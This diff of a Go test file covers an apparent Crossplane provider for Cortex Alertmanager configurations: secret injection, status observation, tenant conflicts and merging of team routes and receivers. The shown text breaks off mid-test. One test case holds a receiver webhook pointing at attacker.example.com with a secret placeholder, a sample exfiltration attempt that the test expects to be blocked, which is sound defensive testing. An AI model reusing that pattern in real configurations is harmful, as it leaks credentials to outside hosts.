@@ -18,13 +18,28 @@ package alertmanager
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"testing"
+	"time"
 
+	"github.com/google/go-cmp/cmp"
+	"github.com/pkg/errors"
+	corev1 "k8s.io/api/core/v1"
+	kerrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	xpv1 "github.com/crossplane/crossplane-runtime/apis/common/v1"
+	"github.com/crossplane/crossplane-runtime/pkg/event"
 	"github.com/crossplane/crossplane-runtime/pkg/reconciler/managed"
 	"github.com/crossplane/crossplane-runtime/pkg/resource"
 	"github.com/crossplane/crossplane-runtime/pkg/test"
-	"github.com/google/go-cmp/cmp"
 
+	"github.com/swisscom/provider-cortex/apis/alerts/v1alpha1"
+	apisv1alpha1 "github.com/swisscom/provider-cortex/apis/v1alpha1"
 	"github.com/swisscom/provider-cortex/internal/clients/alertmanager"
 )
 
@@ -36,9 +51,292 @@ import (
 // https://github.com/golang/go/wiki/TestComments
 // https://github.com/crossplane/crossplane/blob/master/CONTRIBUTING.md#contributing-code
 
+type mockAlertManagerClient struct {
+	MockGetAlertmanagerConfig    func(ctx context.Context) (string, map[string]string, error)
+	MockCreateAlertmanagerConfig func(ctx context.Context, cfg string, templates map[string]string) error
+	MockDeleteAlermanagerConfig  func(ctx context.Context) error
+	MockGetAlertmanagerStatus    func(ctx context.Context) (*alertmanager.Status, error)
+	MockListReceivers            func(ctx context.Context) ([]alertmanager.ReceiverName, error)
+	MockListAlerts               func(ctx context.Context, limit int) ([]alertmanager.Alert, error)
+}
+
+func (m *mockAlertManagerClient) GetAlertmanagerConfig(ctx context.Context) (string, map[string]string, error) {
+	return m.MockGetAlertmanagerConfig(ctx)
+}
+
+func (m *mockAlertManagerClient) CreateAlertmanagerConfig(ctx context.Context, cfg string, templates map[string]string) error {
+	return m.MockCreateAlertmanagerConfig(ctx, cfg, templates)
+}
+
+func (m *mockAlertManagerClient) DeleteAlermanagerConfig(ctx context.Context) error {
+	return m.MockDeleteAlermanagerConfig(ctx)
+}
+
+func (m *mockAlertManagerClient) GetAlertmanagerStatus(ctx context.Context) (*alertmanager.Status, error) {
+	return m.MockGetAlertmanagerStatus(ctx)
+}
+
+func (m *mockAlertManagerClient) ListReceivers(ctx context.Context) ([]alertmanager.ReceiverName, error) {
+	return m.MockListReceivers(ctx)
+}
+
+func (m *mockAlertManagerClient) ListAlerts(ctx context.Context, limit int) ([]alertmanager.Alert, error) {
+	return m.MockListAlerts(ctx, limit)
+}
+
+const (
+	rawConfig = "route:\n  receiver: team\nreceivers:\n  - name: team\n"
+
+	// renderedConfig is the rendering of typedConfig.
+	renderedConfig = `route:
+  receiver: team
+  group_by:
+    - alertname
+  routes:
+    - receiver: pager
+      matchers:
+        - severity="critical"
+receivers:
+  - name: team
+    webhook_configs:
+      - send_resolved: true
+        url: http://team.example.com/hook
+  - name: pager
+`
+)
+
+var sendResolved = true
+
+func typedConfig() *v1alpha1.AlertmanagerConfig {
+	return &v1alpha1.AlertmanagerConfig{
+		Route: v1alpha1.Route{
+			RouteSettings: v1alpha1.RouteSettings{
+				Receiver: "team",
+				GroupBy:  []string{"alertname"},
+			},
+			Routes: []v1alpha1.ChildRoute{
+				{RouteSettings: v1alpha1.RouteSettings{Receiver: "pager", Matchers: []string{`severity="critical"`}}},
+			},
+		},
+		Receivers: []v1alpha1.Receiver{
+			{
+				Name: "team",
+				ReceiverConfigs: v1alpha1.ReceiverConfigs{
+					WebhookConfigs: []v1alpha1.WebhookConfig{{URL: "http://team.example.com/hook", SendResolved: &sendResolved}},
+				},
+			},
+			{Name: "pager"},
+		},
+	}
+}
+
+type configurationModifier func(*v1alpha1.AlertManagerConfiguration)
+
+func withAlertmanagerConfig(c string) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.Spec.ForProvider.AlertmanagerConfig = c }
+}
+
+func withConfig(c *v1alpha1.AlertmanagerConfig) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.Spec.ForProvider.Config = c }
+}
+
+func withSecretRef(name, key string) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) {
+		cr.Spec.ForProvider.SecretRefs = append(cr.Spec.ForProvider.SecretRefs, v1alpha1.ConfigSecretRef{
+			Name: name,
+			SecretKeyRef: xpv1.SecretKeySelector{
+				SecretReference: xpv1.SecretReference{Namespace: "monitoring", Name: "alertmanager"},
+				Key:             key,
+			},
+		})
+	}
+}
+
+// withGlobalSecretRefs selects the Secret keys of the default SMTP password
+// and Slack webhook URL of a structured configuration.
+func withGlobalSecretRefs(passwordKey, slackKey string) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) {
+		ref := func(key string) *xpv1.SecretKeySelector {
+			return &xpv1.SecretKeySelector{
+				SecretReference: xpv1.SecretReference{Namespace: "monitoring", Name: "alertmanager"},
+				Key:             key,
+			}
+		}
+		cr.Spec.ForProvider.Config.Global = &v1alpha1.GlobalConfig{
+			SMTPAuthPasswordSecretRef: ref(passwordKey),
+			SlackAPIURLSecretRef:      ref(slackKey),
+		}
+	}
+}
+
+func withTemplateFile(name, t string) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) {
+		if cr.Spec.ForProvider.TemplateFiles == nil {
+			cr.Spec.ForProvider.TemplateFiles = map[string]string{}
+		}
+		cr.Spec.ForProvider.TemplateFiles[name] = t
+	}
+}
+
+// secretKube returns a client that holds the Secret monitoring/alertmanager
+// and neither AlertmanagerRoutes nor AlertmanagerReceivers.
+func secretKube(data map[string]string) client.Reader {
+	return &test.MockClient{
+		MockList: test.NewMockListFn(nil),
+		MockGet: func(_ context.Context, key client.ObjectKey, obj client.Object) error {
+			s := obj.(*corev1.Secret)
+			s.SetNamespace(key.Namespace)
+			s.SetName(key.Name)
+			s.Data = map[string][]byte{}
+			for k, v := range data {
+				s.Data[k] = []byte(v)
+			}
+			return nil
+		},
+	}
+}
+
+func withProviderConfig(name string) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) {
+		cr.SetProviderConfigReference(&xpv1.Reference{Name: name})
+	}
+}
+
+// teamKube returns a client that holds the AlertmanagerRoutes and the
+// AlertmanagerReceivers of the ProviderConfigs tenant and other of the same
+// tenant, and the Secret monitoring/alertmanager with the key slack.
+func teamKube(routes []v1alpha1.AlertmanagerRoute, receivers []v1alpha1.AlertmanagerReceiver) client.Reader {
+	return &test.MockClient{
+		MockGet: func(_ context.Context, _ client.ObjectKey, obj client.Object) error {
+			s := obj.(*corev1.Secret)
+			s.Data = map[string][]byte{"slack": []byte("https://hooks.slack.com/x")}
+			return nil
+		},
+		MockList: func(_ context.Context, list client.ObjectList, opts ...client.ListOption) error {
+			o := &client.ListOptions{}
+			o.ApplyOptions(opts)
+			pc, _ := o.FieldSelector.RequiresExactMatch(providerConfigIndexKey)
+			if pc != "tenant" && pc != "other" {
+				return errors.Errorf("unexpected field selector %s", o.FieldSelector)
+			}
+			switch l := list.(type) {
+			case *v1alpha1.AlertmanagerRouteList:
+				for _, rt := range routes {
+					if rt.Spec.ProviderConfigReference.Name == pc {
+						l.Items = append(l.Items, rt)
+					}
+				}
+			case *v1alpha1.AlertmanagerReceiverList:
+				for _, rcv := range receivers {
+					if rcv.Spec.ProviderConfigReference.Name == pc {
+						l.Items = append(l.Items, rcv)
+					}
+				}
+			}
+			return nil
+		},
+	}
+}
+
+// teamRoute returns the AlertmanagerRoute name of the team of the claim
+// namespace ns in the ProviderConfig pc that sends critical alerts to
+// receiver.
+func teamRoute(name, ns, pc, receiver string) v1alpha1.AlertmanagerRoute {
+	rt := v1alpha1.AlertmanagerRoute{}
+	rt.SetName(name)
+	rt.SetLabels(map[string]string{v1alpha1.LabelKeyClaimNamespace: ns})
+	rt.Spec.ProviderConfigReference.Name = pc
+	rt.Spec.Route = v1alpha1.Route{RouteSettings: v1alpha1.RouteSettings{Receiver: receiver, Matchers: []string{`severity="critical"`}}}
+	return rt
+}
+
+// teamReceiver returns the AlertmanagerReceiver name of the team of the claim
+// namespace ns in the ProviderConfig pc that calls the webhook url.
+func teamReceiver(name, ns, pc, url string) v1alpha1.AlertmanagerReceiver {
+	rcv := v1alpha1.AlertmanagerReceiver{}
+	rcv.SetName(name)
+	if ns != "" {
+		rcv.SetLabels(map[string]string{v1alpha1.LabelKeyClaimNamespace: ns})
+	}
+	rcv.Spec.ProviderConfigReference.Name = pc
+	rcv.Spec.WebhookConfigs = []v1alpha1.WebhookConfig{{URL: url}}
+	return rcv
+}
+
+var deletedAt = metav1.Now()
+
+func withDeletionTimestamp() configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.SetDeletionTimestamp(&deletedAt) }
+}
+
+func withCreationTimestamp(t time.Time) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.SetCreationTimestamp(metav1.Time{Time: t}) }
+}
+
+func withOnDelete(action string, ref *v1alpha1.ConfigMapKeySelector) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) {
+		cr.Spec.ForProvider.OnDelete = &v1alpha1.OnDelete{Action: action, BaselineRef: ref}
+	}
+}
+
+// baselineRef selects the key baseline of the ConfigMap monitoring/baseline.
+var baselineRef = &v1alpha1.ConfigMapKeySelector{Namespace: "monitoring", Name: "baseline", Key: "baseline"}
+
+// baselineKube returns a client that holds the ConfigMap monitoring/baseline.
+func baselineKube(baseline string) client.Reader {
+	return &test.MockClient{
+		MockList: test.NewMockListFn(nil),
+		MockGet: func(_ context.Context, key client.ObjectKey, obj client.Object) error {
+			cm := obj.(*corev1.ConfigMap)
+			cm.SetNamespace(key.Namespace)
+			cm.SetName(key.Name)
+			cm.Data = map[string]string{"baseline": baseline}
+			return nil
+		},
+	}
+}
+
+// recorder records the events of a resource.
+type recorder struct {
+	events []event.Event
+}
+
+func (r *recorder) Event(_ runtime.Object, e event.Event) {
+	r.events = append(r.events, e)
+}
+
+func (r *recorder) WithAnnotations(_ ...string) event.Recorder {
+	return r
+}
+
+func withAtProvider(o v1alpha1.AlertManagerConfigurationObservation) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.Status.AtProvider = o }
+}
+
+func conditionPtr(c xpv1.Condition) *xpv1.Condition {
+	return &c
+}
+
+func withConditions(c ...xpv1.Condition) configurationModifier {
+	return func(cr *v1alpha1.AlertManagerConfiguration) { cr.Status.SetConditions(c...) }
+}
+
+func configuration(mods ...configurationModifier) *v1alpha1.AlertManagerConfiguration {
+	cr := &v1alpha1.AlertManagerConfiguration{}
+	cr.SetName("alertmanager")
+	for _, m := range mods {
+		m(cr)
+	}
+	return cr
+}
+
 func TestObserve(t *testing.T) {
+	errBoom := errors.New("boom")
+
 	type fields struct {
-		service alertmanager.AlertManagerClient
+		kube     client.Reader
+		service  alertmanager.AlertManagerClient
+		conflict string
 	}
 
 	type args struct {
@@ -48,21 +346,314 @@ func TestObserve(t *testing.T) {
 
 	type want struct {
 		o   managed.ExternalObservation
+		cr  resource.Managed
 		err error
 	}
 
+	// observed returns a client of an Alertmanager that has not loaded the
+	// configuration cfg yet.
+	observed := func(cfg string) alertmanager.AlertManagerClient {
+		return &mockAlertManagerClient{
+			MockGetAlertmanagerConfig: func(_ context.Context) (string, map[string]string, error) {
+				return cfg, nil, nil
+			},
+			MockGetAlertmanagerStatus: func(_ context.Context) (*alertmanager.Status, error) {
+				return nil, errors.New(errConfigurationNotFound)
+			},
+		}
+	}
+
+	// running returns a client of an Alertmanager that runs the configuration
+	// running while cfg is stored.
+	running := func(cfg, running string) alertmanager.AlertManagerClient {
+		return &mockAlertManagerClient{
+			MockGetAlertmanagerConfig: func(_ context.Context) (string, map[string]string, error) {
+				return cfg, nil, nil
+			},
+			MockGetAlertmanagerStatus: func(_ context.Context) (*alertmanager.Status, error) {
+				return &alertmanager.Status{
+					Cluster: alertmanager.ClusterStatus{Status: "ready", Peers: []alertmanager.PeerStatus{
+						{Name: "b", Address: "10.0.0.2:9094"},
+						{Name: "a", Address: "10.0.0.1:9094"},
+					}},
+					Config: alertmanager.ConfigStatus{Original: running},
+				}, nil
+			},
+			MockListReceivers: func(_ context.Context) ([]alertmanager.ReceiverName, error) {
+				return []alertmanager.ReceiverName{{Name: "team"}}, nil
+			},
+			MockListAlerts: func(_ context.Context, limit int) ([]alertmanager.Alert, error) {
+				if limit != maxObservedAlerts {
+					return nil, errors.Errorf("unexpected limit %d", limit)
+				}
+				return []alertmanager.Alert{
+					{Status: alertmanager.AlertStatus{State: alertmanager.AlertStateActive}},
+					{Status: alertmanager.AlertStatus{State: alertmanager.AlertStateActive}},
+					{Status: alertmanager.AlertStatus{State: alertmanager.AlertStateSuppressed}},
+					{Status: alertmanager.AlertStatus{State: "unprocessed"}},
+				}, nil
+			},
+		}
+	}
+
+	// runningConfig is rawConfig as the Alertmanager reports to run it.
+	const runningConfig = "global:\n  resolve_timeout: 5m\nroute:\n  receiver: team\n  continue: false\nreceivers:\n- name: team\ntemplates: []\n"
+	runningHash := sha256.Sum256([]byte(runningConfig))
+	status := func(applied bool) v1alpha1.AlertManagerConfigurationObservation {
+		return v1alpha1.AlertManagerConfigurationObservation{
+			Status:           statusSuccess,
+			ConfigHash:       hex.EncodeToString(runningHash[:]),
+			ConfigApplied:    applied,
+			ClusterStatus:    "ready",
+			ClusterPeers:     []v1alpha1.ClusterPeer{{Name: "a", Address: "10.0.0.1:9094"}, {Name: "b", Address: "10.0.0.2:9094"}},
+			Receivers:        []string{"team"},
+			ActiveAlerts:     2,
+			SuppressedAlerts: 1,
+		}
+	}
+
 	cases := map[string]struct {
 		reason string
 		fields fields
 		args   args
 		want   want
 	}{
-		// TODO: Add test cases.
+		"NotFound": {
+			reason: "A configuration the Alertmanager does not know should not exist.",
+			fields: fields{service: &mockAlertManagerClient{
+				MockGetAlertmanagerConfig: func(_ context.Context) (string, map[string]string, error) {
+					return "", nil, errors.New(errConfigurationNotFound)
+				},
+			}},
+			args: args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				o:  managed.ExternalObservation{},
+				cr: configuration(withAlertmanagerConfig(rawConfig)),
+			},
+		},
+		"GetError": {
+			reason: "Errors getting the configuration should be returned.",
+			fields: fields{service: &mockAlertManagerClient{
+				MockGetAlertmanagerConfig: func(_ context.Context) (string, map[string]string, error) {
+					return "", nil, errBoom
+				},
+			}},
+			args: args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				cr:  configuration(withAlertmanagerConfig(rawConfig)),
+				err: errBoom,
+			},
+		},
+		"RawUpToDate": {
+			reason: "A raw configuration equal to the observed one should be up to date.",
+			fields: fields{service: observed(rawConfig)},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withConditions(xpv1.Available())),
+			},
+		},
+		"ReformattedUpToDate": {
+			reason: "A configuration Cortex returns with different formatting should be up to date.",
+			fields: fields{service: observed("receivers: [{name: team}]\nroute: {receiver: team}\n")},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withConditions(xpv1.Available())),
+			},
+		},
+		"TypedUpToDate": {
+			reason: "A structured configuration should be compared in its rendered form.",
+			fields: fields{service: observed(renderedConfig)},
+			args:   args{mg: configuration(withConfig(typedConfig()))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withConfig(typedConfig()), withConditions(xpv1.Available())),
+			},
+		},
+		"TypedNotUpToDate": {
+			reason: "A structured configuration that renders differently than the observed one should not be up to date.",
+			fields: fields{service: observed(rawConfig)},
+			args:   args{mg: configuration(withConfig(typedConfig()))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				cr: configuration(withConfig(typedConfig()), withConditions(xpv1.Available())),
+			},
+		},
+		"SecretsUpToDate": {
+			reason: "A configuration should be compared with its secret values injected.",
+			fields: fields{
+				kube: secretKube(map[string]string{"slack": "https://hooks.slack.com/x"}),
+				service: observed("global:\n  slack_api_url: https://hooks.slack.com/x\n" +
+					"route:\n  receiver: team\nreceivers:\n  - name: team\n"),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"))},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"),
+					withConditions(xpv1.Available())),
+			},
+		},
+		"SecretRotated": {
+			reason: "A configuration should not be up to date after a secret value changed.",
+			fields: fields{
+				kube: secretKube(map[string]string{"slack": "https://hooks.slack.com/y"}),
+				service: observed("global:\n  slack_api_url: https://hooks.slack.com/x\n" +
+					"route:\n  receiver: team\nreceivers:\n  - name: team\n"),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"))},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				cr: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"),
+					withConditions(xpv1.Available())),
+			},
+		},
+		"SecretKeyNotFound": {
+			reason: "A missing Secret key should be an error.",
+			fields: fields{kube: secretKube(map[string]string{})},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig), withSecretRef("slack", "slack"))},
+			want: want{
+				cr:  configuration(withAlertmanagerConfig(rawConfig), withSecretRef("slack", "slack")),
+				err: errors.Errorf(errFmtSecretKey, "slack", "monitoring", "alertmanager", "secretRefs[0]"),
+			},
+		},
+		"BaselineRestored": {
+			reason: "A deleted configuration whose baseline is in place should not exist.",
+			fields: fields{
+				kube:    baselineKube("receivers: [{name: catch-all}]\nroute: {receiver: catch-all}\n"),
+				service: observed("route:\n  receiver: catch-all\nreceivers:\n  - name: catch-all\n"),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef), withDeletionTimestamp())},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: false},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef), withDeletionTimestamp()),
+			},
+		},
+		"BaselineNotRestored": {
+			reason: "A deleted configuration whose baseline is not in place yet should exist.",
+			fields: fields{
+				kube:    baselineKube("receivers: [{name: catch-all}]\nroute: {receiver: catch-all}\n"),
+				service: observed(rawConfig),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef), withDeletionTimestamp())},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withOnDelete(v1alpha1.OnDeleteRestore, baselineRef), withDeletionTimestamp()),
+			},
+		},
+		"DeletedSecretMissing": {
+			reason: "A deleted configuration should be observed without its Secrets, which are often deleted first, so that it can be deleted.",
+			fields: fields{
+				kube: &test.MockClient{
+					MockGet: test.NewMockGetFn(kerrors.NewNotFound(schema.GroupResource{Resource: "secrets"}, "alertmanager")),
+				},
+				service: observed("global:\n  slack_api_url: https://hooks.slack.com/x\n" +
+					"route:\n  receiver: team\nreceivers:\n  - name: team\n"),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"), withDeletionTimestamp())},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"),
+					withDeletionTimestamp()),
+			},
+		},
+		"Status": {
+			reason: "The state of the Alertmanager should be observed.",
+			fields: fields{service: running(rawConfig, runningConfig)},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withAtProvider(status(true)), withConditions(xpv1.Available())),
+			},
+		},
+		"StatusNotApplied": {
+			reason: "An Alertmanager that does not run the configuration yet should be observed as such.",
+			fields: fields{service: running(rawConfig, runningConfig)},
+			args:   args{mg: configuration(withAlertmanagerConfig("route:\n  receiver: other\nreceivers:\n  - name: other\n"))},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				cr: configuration(withAlertmanagerConfig("route:\n  receiver: other\nreceivers:\n  - name: other\n"),
+					withAtProvider(status(false)), withConditions(xpv1.Available())),
+			},
+		},
+		"StatusError": {
+			reason: "A failure to query a status endpoint should be recorded in the status but not fail the observation.",
+			fields: fields{
+				kube: secretKube(map[string]string{"token": "s3cret"}),
+				service: func() alertmanager.AlertManagerClient {
+					c := running(rawConfig, runningConfig).(*mockAlertManagerClient)
+					c.MockListAlerts = func(_ context.Context, _ int) ([]alertmanager.Alert, error) {
+						return nil, errors.New("token s3cret rejected")
+					}
+					return c
+				}(),
+			},
+			args: args{mg: configuration(withAlertmanagerConfig(rawConfig), withSecretRef("token", "token"))},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withSecretRef("token", "token"), withAtProvider(func() v1alpha1.AlertManagerConfigurationObservation {
+					o := status(true)
+					o.Status = statusError
+					o.Error = errListAlerts + ": token <secret> rejected"
+					o.ActiveAlerts = 0
+					o.SuppressedAlerts = 0
+					return o
+				}()), withConditions(xpv1.Available())),
+			},
+		},
+		"Conflict": {
+			reason: "A configuration blocked by another one of the same tenant should not be observed and report the conflict.",
+			fields: fields{conflict: "managed by older"},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig))},
+			want: want{
+				cr:  configuration(withAlertmanagerConfig(rawConfig), withConditions(v1alpha1.TenantConflict("managed by older"))),
+				err: errors.New("managed by older"),
+			},
+		},
+		"ConflictDeleted": {
+			reason: "A blocked configuration that is deleted should not exist, so that the configuration of the other one is kept.",
+			fields: fields{conflict: "managed by older"},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig), withDeletionTimestamp())},
+			want: want{
+				o: managed.ExternalObservation{ResourceExists: false},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withDeletionTimestamp(),
+					withConditions(v1alpha1.TenantConflict("managed by older"))),
+			},
+		},
+		"ConflictResolved": {
+			reason: "A configuration that is no longer blocked should report that it has no conflict.",
+			fields: fields{service: observed(rawConfig)},
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig), withConditions(v1alpha1.TenantConflict("managed by older")))},
+			want: want{
+				o:  managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				cr: configuration(withAlertmanagerConfig(rawConfig), withConditions(v1alpha1.NoConflict(), xpv1.Available())),
+			},
+		},
+		"BothSet": {
+			reason: "Setting both alertmanager_config and config should be an error.",
+			args:   args{mg: configuration(withAlertmanagerConfig(rawConfig), withConfig(typedConfig()))},
+			want: want{
+				cr:  configuration(withAlertmanagerConfig(rawConfig), withConfig(typedConfig())),
+				err: errors.Wrap(errors.New("alertmanager_config and config are mutually exclusive"), errDesiredConfig),
+			},
+		},
+		"NoneSet": {
+			reason: "Setting neither alertmanager_config nor config should be an error.",
+			args:   args{mg: configuration()},
+			want: want{
+				cr:  configuration(),
+				err: errors.Wrap(errors.New("one of alertmanager_config and config must be set"), errDesiredConfig),
+			},
+		},
 	}
 
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
-			e := external{service: tc.fields.service}
+			kube := tc.fields.kube
+			if kube == nil {
+				kube = &test.MockClient{MockList: test.NewMockListFn(nil)}
+			}
+			e := external{kube: kube, service: tc.fields.service, conflict: tc.fields.conflict}
 			got, err := e.Observe(tc.args.ctx, tc.args.mg)
 			if diff := cmp.Diff(tc.want.err, err, test.EquateErrors()); diff != "" {
 				t.Errorf("\n%s\ne.Observe(...): -want error, +got error:\n%s\n", tc.reason, diff)
@@ -70,6 +661,394 @@ func TestObserve(t *testing.T) {
 			if diff := cmp.Diff(tc.want.o, got); diff != "" {
 				t.Errorf("\n%s\ne.Observe(...): -want, +got:\n%s\n", tc.reason, diff)
 			}
+			if diff := cmp.Diff(tc.want.cr, tc.args.mg, test.EquateConditions()); diff != "" {
+				t.Errorf("\n%s\ne.Observe(...): -want managed resource, +got managed resource:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestCreate(t *testing.T) {
+	type want struct {
+		cfg       string
+		templates map[string]string
+		condition *xpv1.Condition
+		events    []event.Event
+		err       error
+	}
+
+	// rejected returns the events reporting that err left an
+	// AlertmanagerRoute or AlertmanagerReceiver out of the configuration.
+	rejected := func(err error) []event.Event {
+		return []event.Event{
+			event.Warning(reasonInvalidConfiguration, errors.Wrapf(err, errFmtNotMerged, "alertmanager")),
+			event.Warning(reasonInvalidConfiguration, errors.Wrap(err, errLeftOut)),
+		}
+	}
+
+	cases := map[string]struct {
+		reason    string
+		kube      client.Reader
+		createErr error
+		cr        *v1alpha1.AlertManagerConfiguration
+		want      want
+	}{
+		"Raw": {
+			reason: "A raw configuration should be sent as is.",
+			cr:     configuration(withAlertmanagerConfig(rawConfig)),
+			want:   want{cfg: rawConfig, condition: conditionPtr(v1alpha1.ConfigValid())},
+		},
+		"Typed": {
+			reason: "A structured configuration should be sent rendered into an alert manager config file.",
+			cr:     configuration(withConfig(typedConfig())),
+			want:   want{cfg: renderedConfig},
+		},
+		"Secrets": {
+			reason: "Placeholders should be replaced with quoted secret values in the configuration and as is in template files.",
+			kube:   secretKube(map[string]string{"password": "p: #1", "team": "ops"}),
+			cr: configuration(
+				withAlertmanagerConfig("global:\n  smtp_auth_password: ${password}\n"+rawConfig),
+				withTemplateFile("default", `{{ define "team" }}${team}{{ end }}`),
+				withSecretRef("password", "password"), withSecretRef("team", "team")),
+			want: want{
+				cfg:       "global:\n  smtp_auth_password: 'p: #1'\n" + rawConfig,
+				templates: map[string]string{"default": `{{ define "team" }}ops{{ end }}`},
+			},
+		},
+		"GlobalSecrets": {
+			reason: "The secret references of the global parameters should be replaced with their quoted values.",
+			kube:   secretKube(map[string]string{"password": "p: #1", "slack": "https://hooks.slack.com/x"}),
+			cr:     configuration(withConfig(typedConfig()), withGlobalSecretRefs("password", "slack")),
+			want: want{
+				cfg: "global:\n  smtp_auth_password: 'p: #1'\n  slack_api_url: https://hooks.slack.com/x\n" + renderedConfig,
+			},
+		},
+		"GlobalSecretKeyNotFound": {
+			reason: "A missing Secret key of the global parameters should be an error naming their field.",
+			kube:   secretKube(map[string]string{"password": "s3cret"}),
+			cr:     configuration(withConfig(typedConfig()), withGlobalSecretRefs("password", "slack")),
+			want: want{
+				err: errors.Errorf(errFmtSecretKey, "slack", "monitoring", "alertmanager", "config.global.slackApiUrlSecretRef"),
+			},
+		},
+		"Composed": {
+			reason: "The AlertmanagerRoutes and AlertmanagerReceivers of the ProviderConfigs of the tenant should be merged into the configuration.",
+			kube: teamKube(
+				[]v1alpha1.AlertmanagerRoute{teamRoute("team-a", "team-a-ns", "other", "pager")},
+				[]v1alpha1.AlertmanagerReceiver{teamReceiver("pager", "team-a-ns", "tenant", "http://a.example.com/hook")}),
+			cr: configuration(withAlertmanagerConfig(rawConfig), withProviderConfig("tenant")),
+			want: want{cfg: `receivers:
+  - name: team
+  - name: team-a-ns/pager
+    webhook_configs:
+      - url: http://a.example.com/hook
+route:
+  receiver: team
+  routes:
+    - continue: true
+      matchers:
+        - namespace="team-a-ns"
+        - severity="critical"
+      receiver: team-a-ns/pager
+`},
+		},
+		"ComposedSecrets": {
+			reason: "Secrets should be injected into the configuration, but not into the AlertmanagerRoutes and AlertmanagerReceivers merged into it.",
+			kube: teamKube(
+				[]v1alpha1.AlertmanagerRoute{teamRoute("team-a", "team-a-ns", "tenant", "team")},
+				[]v1alpha1.AlertmanagerReceiver{teamReceiver("pager", "team-a-ns", "tenant", "https://attacker.example.com/${slack}")}),
+			cr: configuration(withAlertmanagerConfig("global:\n  slack_api_url: ${slack}\n"+rawConfig), withSecretRef("slack", "slack"), withProviderConfig("tenant")),
+			want: want{
+				cfg: `global:
+  slack_api_url: https://hooks.slack.com/x
+receivers:
+  - name: team
+route:
+  receiver: team
+  routes:
+    - continue: true
+      matchers:
+        - namespace="team-a-ns"
+        - severity="critical"
+      receiver: team
+`,
+				events: rejected(errors.New("AlertmanagerReceiver pager contains a ${...} placeholder, which only the secretRefs of the AlertManagerConfiguration can fill")),
+			},
+		},
+		"ComposedForeignReceiver": {
+			reason: "An AlertmanagerRoute should not be able to refer to the AlertmanagerReceiver of another team.",
+			kube: teamKube(
+				[]v1alpha1.AlertmanagerRoute{teamRoute("team-a", "team-a-ns", "tenant", "pager")},
+				[]v1alpha1.AlertmanagerReceiver{teamReceiver("pager", "team-b-ns", "tenant", "http://b.example.com/hook")}),
+			cr: configuration(withAlertmanagerConfig(rawConfig), withProviderConfig("tenant")),
+			want: want{
+				cfg: `receivers:
+  - name: team
+  - name: team-b-ns/pager
+    webhook_configs:
+      - url: http://b.example.com/hook
+route:
+  receiver: team
+`,
